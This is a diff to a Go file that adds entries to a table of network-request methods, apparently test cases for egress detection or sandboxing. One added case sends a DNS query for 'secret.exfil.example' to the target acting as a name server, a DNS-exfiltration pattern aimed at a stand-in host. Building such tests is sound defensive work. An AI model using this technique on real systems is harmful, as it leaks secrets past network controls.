@@ -106,6 +106,21 @@ var ways = map[string]func(context.Context, request) error{
 	"os/exec": func(ctx context.Context, _ request) error {
 		return exec.CommandContext(ctx, "/bin/true", "secret").Run()
 	},
+	// As database drivers do it.
+	"lookup, then dial": func(ctx context.Context, r request) error {
+		if _, err := net.DefaultResolver.LookupHost(ctx, "localhost"); err != nil {
+			return err
+		}
+		return dial(func(r request) (net.Conn, error) { return net.Dial("tcp", r.Target) })(ctx, r)
+	},
+	// The target is asked as if it were a name server.
+	"another name server": func(ctx context.Context, r request) error {
+		resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return new(net.Dialer).DialContext(ctx, "udp", r.Target)
+		}}
+		_, err := resolver.LookupHost(ctx, "secret.exfil.example")
+		return err
+	},
 	// Two requests on one connection.
 	"pooled h2": func(ctx context.Context, r request) error {
 		for _, path := range []string{"/a", "/b"} {
